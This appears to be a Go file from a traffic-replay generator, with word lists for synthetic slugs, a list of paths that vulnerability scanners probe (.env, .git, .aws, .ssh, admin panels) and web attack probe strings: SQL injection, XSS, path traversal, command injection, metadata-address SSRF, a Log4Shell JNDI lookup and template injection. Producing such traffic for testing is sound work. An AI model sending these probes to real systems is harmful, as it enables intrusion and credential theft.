package replay

import "strconv"

// The vocabulary that paths, slugs and search terms are made of.
var (
	nouns  = []string{"match", "final", "cup", "league", "goal", "city", "river", "night", "house", "garden", "market", "history", "music", "story", "road", "light", "winter", "summer", "island", "kitchen", "doctor", "family", "ocean", "mountain", "train", "school", "forest", "bridge", "letter", "window", "secret", "planet", "bread", "horse", "king", "queen", "dream", "street", "paper", "engine", "budget", "energy", "health", "climate", "election", "report", "review", "guide", "series", "season", "jacket", "camera", "lamp", "table", "chair", "phone", "watch", "bag", "shoe", "bike"}
	modif  = []string{"last", "first", "great", "little", "golden", "silent", "open", "hidden", "new", "old", "blue", "red", "white", "dark", "bright", "broken", "quiet", "wild", "brave", "lost", "long", "short", "early", "late", "true", "small", "high", "deep", "free", "final", "classic", "ultra", "smart", "fast", "soft", "royal", "urban", "modern", "wooden", "light"}
	people = []string{"anna", "louis", "marco", "elena", "jonas", "sofia", "peter", "clara", "david", "maria", "tomas", "emma", "pierre", "ines", "karim", "lea", "paul", "nina", "hugo", "alice", "omar", "julia", "leo", "rosa"}
)

func slug(r *rng, words int) string {
	s := pick(r, modif)
	for range words - 1 {
		s += "-" + pick(r, nouns)
	}
	return s
}

func hexString(r *rng, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.next()&15]
	}
	return string(b)
}

func number(r *rng, low, high int) string { return strconv.Itoa(r.intn(low, high)) }

// scanWords and scanEnds make the paths that a scanner tries.
var (
	scanWords = []string{"admin", "administrator", "wp-admin", "wp-login.php", "wp-content/plugins", "phpmyadmin", "pma", "backup", "backups", "db", "database", "dump", "config", "conf", "old", "test", "dev", "staging", "api", "v1", "swagger", "actuator", "console", "manager", "jenkins", "solr", "cgi-bin", "server-status", "server-info", ".git", ".svn", ".env", ".aws", ".ssh", "vendor", "phpunit", "shell", "cmd", "upload", "uploads", "files", "tmp", "logs", "log", "debug", "trace", "info", "phpinfo", "login", "user", "users", "setup", "install", "xmlrpc", "owa", "autodiscover", "HNAP1", "boaform", "cfide", "struts", "axis2", "jmx-console", "graphql", "metrics", "health", "private", "secret", "hidden", "internal", "root", "data", "sql", "export", "archive", "site", "www", "web", "portal", "cms", "joomla", "drupal", "magento", "typo3"}
	scanEnds  = []string{"", "/", ".php", ".asp", ".aspx", ".jsp", ".bak", ".old", ".zip", ".tar.gz", ".sql", ".txt", ".xml", ".json", ".yml", "/config", "/index.php", "/login", "/HEAD", "/credentials", "~", ".swp", "/env", "/.htaccess", "/admin", "1", "2", "_old", ".inc", "/web.config"}
)

// scanProbes are what comes as a query or in the path against an application.
var scanProbes = []string{"id=1%27%20OR%20%271%27=%271", "q=%3Cscript%3Ealert(1)%3C/script%3E", "file=../../../../etc/passwd", "page=php://filter/convert.base64-encode/resource=index", "cmd=id", "url=http://169.254.169.254/latest/meta-data/", "id=1%20UNION%20SELECT%20NULL,NULL--", "x=${jndi:ldap://a.b/c}", "name={{7*7}}", "debug=true"}
